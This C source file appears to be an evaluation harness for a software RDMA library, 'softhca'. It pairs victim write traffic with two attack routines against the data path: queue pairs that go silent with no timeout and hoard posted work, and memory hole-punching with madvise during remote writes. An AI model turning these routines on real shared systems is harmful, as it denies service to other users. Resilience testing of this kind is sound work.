/* SPDX-License-Identifier: BSD-3-Clause */
/* Traffic between left and right, as a program of the library sees it; and the attack on what the data path keeps. */
#include <pthread.h>
#include <sched.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include "softhca/softhca.h"
#include "shares.h"

enum {
	AREA_BYTES = 1 << 20,
	HOLE_BYTES = 256 << 20,
	MESSAGE_BYTES = 16384,
	POLLED = 32, /* completions at a time */
	TRAFFIC_DEPTH = 128,
	QPS = 32,   /* of an attacker's client */
	DEPTH = 12, /* of each: all doorbells together find room, whatever is taken of them */
	PIECES = 4, /* scatter entries of a READ */
};

struct end {
	struct softhca_context *ctx;
	struct softhca_pd *pd;
	struct softhca_cq *cq;
	struct softhca_mr *mr;
	uint8_t *area;
};

static bool end_open(struct end *e, const char *device, uint64_t bytes)
{
	*e = (struct end){.ctx = softhca_open(path, device)};
	if (!e->ctx)
		return false;
	e->pd = softhca_alloc_pd(e->ctx);
	e->cq = softhca_create_cq(e->ctx, 2 * QPS * DEPTH, NULL, NULL);
	e->area = softhca_alloc(e->ctx, bytes);
	if (!e->pd || !e->cq || !e->area)
		return false;
	e->mr = softhca_reg_mr(e->pd, e->area, bytes,
			       SOFTHCA_ACCESS_LOCAL_WRITE | SOFTHCA_ACCESS_REMOTE_WRITE |
				       SOFTHCA_ACCESS_REMOTE_READ);
	return e->mr != NULL;
}

static struct softhca_qp *qp_of(struct end *e, uint32_t depth)
{
	struct softhca_qp_init_attr attr = {.type = SOFTHCA_QP_RC,
					    .send_cq = e->cq,
					    .recv_cq = e->cq,
					    .cap = {.max_send_wr = depth,
						    .max_recv_wr = 1,
						    .max_send_sge = PIECES,
						    .max_recv_sge = 1}};

	return softhca_create_qp(e->pd, &attr);
}

static bool connect_both(struct end *a, struct softhca_qp *qa, struct softhca_qp *qb,
			 uint8_t timeout)
{
	struct softhca_endpoint left, right;
	struct softhca_connect_attr attr;

	softhca_connect_defaults(a->ctx, &attr);
	attr.gid_index = 1;
	attr.timeout = timeout;
	return softhca_local_endpoint(qa, 1, &left) == 0 &&
	       softhca_local_endpoint(qb, 1, &right) == 0 &&
	       softhca_connect_qp(qa, &left, &right, &attr) == 0 &&
	       softhca_connect_qp(qb, &right, &left, &attr) == 0;
}

/* A WRITE, or a READ in pieces. */
static int post(struct end *e, struct softhca_qp *qp, const struct end *to, uint32_t opcode,
		uint32_t bytes, uint32_t flags)
{
	uint32_t n = opcode == SOFTHCA_WR_RDMA_READ ? PIECES : 1;
	struct softhca_sge sge[PIECES];
	struct softhca_send_wr wr = {.opcode = opcode,
				     .send_flags = flags,
				     .sg_list = sge,
				     .num_sge = (int)n,
				     .wr.rdma = {(uintptr_t)to->area, to->mr->rkey}};

	for (uint32_t i = 0; i < n; i++)
		sge[i] = (struct softhca_sge){(uintptr_t)e->area + i * bytes / n, bytes / n,
					      e->mr->lkey};
	return softhca_post_send(qp, &wr, NULL);
}

/* Completions, or -1: one of them is bad. */
static int completed(struct softhca_cq *cq)
{
	struct softhca_wc wc[POLLED];
	int n = softhca_poll_cq(cq, POLLED, wc);

	for (int i = 0; i < n; i++)
		if (wc[i].status != SOFTHCA_WC_SUCCESS)
			return -1;
	if (n == 0)
		sched_yield();
	return n;
}

/* ---- the victim's ---- */

static struct end here, there;
static struct softhca_qp *from, *to;

bool traffic_begin(void)
{
	if (!end_open(&here, "left", AREA_BYTES) || !end_open(&there, "right", AREA_BYTES))
		return false;
	from = qp_of(&here, TRAFFIC_DEPTH);
	to = qp_of(&there, 1);
	return from && to && connect_both(&here, from, to, 17);
}

uint64_t traffic(uint64_t ns)
{
	uint64_t begun = now_ns(), done = 0, posted = 0;
	int n;

	do {
		while (posted - done < TRAFFIC_DEPTH) {
			if (post(&here, from, &there, SOFTHCA_WR_RDMA_WRITE, MESSAGE_BYTES,
				 SOFTHCA_SEND_SIGNALED))
				return 0;
			posted++;
		}
		n = completed(here.cq);
		if (n < 0)
			return 0;
		done += (unsigned int)n;
	} while (now_ns() - begun < ns);
	while (done < posted) {
		n = completed(here.cq);
		if (n < 0)
			return 0;
		done += (unsigned int)n;
	}
	return done * MESSAGE_BYTES;
}

/* ---- silence ---- */

/* Peers that have acknowledged something, so that much is sent to them, and then end: all that follows is kept, for ever, as
 * there is no timeout. */
static struct end hoard[CLIENTS], peers[CLIENTS];
static struct softhca_qp *silent[CLIENTS][QPS];

static bool fall_silent(struct end *e, struct end *peer, struct softhca_qp **qp)
{
	struct softhca_qp *other = qp_of(peer, 1);
	int n = 0;

	*qp = qp_of(e, DEPTH);
	if (!*qp || !other || !connect_both(e, *qp, other, 0) ||
	    post(e, *qp, peer, SOFTHCA_WR_RDMA_WRITE, 8, SOFTHCA_SEND_SIGNALED))
		return false;
	for (uint64_t begun = now_ns(); n == 0 && now_ns() - begun < 1000000000;)
		n = completed(e->cq);
	softhca_destroy_qp(other);
	return n > 0;
}

/* Every second queue pair WRITEs, the others READ, as much as there is room for. */
static unsigned int send_all(struct end *e, struct end *peer, struct softhca_qp **qp)
{
	unsigned int n = 0;

	for (int i = 0; i < QPS; i++)
		while (qp[i] &&
		       post(e, qp[i], peer, i % 2 ? SOFTHCA_WR_RDMA_WRITE : SOFTHCA_WR_RDMA_READ,
			    4096, 0) == 0)
			n++;
	return n;
}

unsigned int attack_silence(void)
{
	unsigned int n = 0;

	for (int c = 0; c < CLIENTS; c++) {
		if (!hoard[c].ctx && (!end_open(&hoard[c], "left", AREA_BYTES) ||
				      !end_open(&peers[c], "right", AREA_BYTES)))
			break;
		for (int i = 0; i < QPS; i++)
			if (!fall_silent(&hoard[c], &peers[c], &silent[c][i]))
				break;
		n += send_all(&hoard[c], &peers[c], silent[c]);
	}
	return n;
}

/* Those that are silent for long have to give way. */
void again_silence(void)
{
	sleep(1);
	for (int c = 0; c < CLIENTS; c++) {
		for (int i = 0; i < QPS; i++)
			if (silent[c][i])
				softhca_destroy_qp(silent[c][i]);
		memset(silent[c], 0, sizeof(silent[c]));
	}
	attack_silence();
}

/* ---- holes ---- */

/* After which it asks whether it still has its connection. */
#define ASK_NS 20000000ull

static pthread_barrier_t turn;

/* The slower it is, the longer the daemon waits. */
static void *punch(void *area)
{
	setpriority(PRIO_PROCESS, (id_t)gettid(), 0);
	for (;;) {
		pthread_barrier_wait(&turn);
		madvise(area, HOLE_BYTES, MADV_REMOVE);
		pthread_barrier_wait(&turn);
	}
	return NULL;
}

static void *bring_in(void *area)
{
	for (;;) {
		madvise(area, HOLE_BYTES, MADV_POPULATE_WRITE);
		pthread_barrier_wait(&turn);
		pthread_barrier_wait(&turn);
	}
	return NULL;
}

/* A WRITE. False: it has lost its connection. */
static bool write_once(struct softhca_qp *qp)
{
	struct softhca_port_attr attr;
	uint64_t asked = now_ns();
	int n = 0;

	if (post(&here, qp, &there, SOFTHCA_WR_RDMA_WRITE, 64, SOFTHCA_SEND_SIGNALED))
		return false;
	while ((n = completed(here.cq)) == 0)
		if (now_ns() - asked > ASK_NS) {
			if (softhca_query_port(there.ctx, &attr))
				return false;
			asked = now_ns();
		}
	return n == 1;
}

/* WRITEs to memory that it punches out of its file, and brings in again, until it loses its connection. */
static void write_to_holes(void)
{
	struct softhca_qp *qp;
	pthread_t thread;

	if (!end_open(&here, "left", AREA_BYTES) || !end_open(&there, "right", HOLE_BYTES))
		return;
	qp = qp_of(&here, TRAFFIC_DEPTH);
	to = qp_of(&there, 1);
	if (!qp || !to || !connect_both(&here, qp, to, 20) ||
	    pthread_barrier_init(&turn, NULL, 2) ||
	    pthread_create(&thread, NULL, bring_in, there.area) ||
	    pthread_create(&thread, NULL, punch, there.area))
		return;
	while (write_once(qp))
		;
}

unsigned int attack_holes(void)
{
	return HOLE_BYTES >> 20;
}

void again_holes(void)
{
	pid_t child = fork();

	if (child == 0) {
		write_to_holes();
		_exit(0);
	}
	waitpid(child, NULL, 0);
	usleep(10000);
}
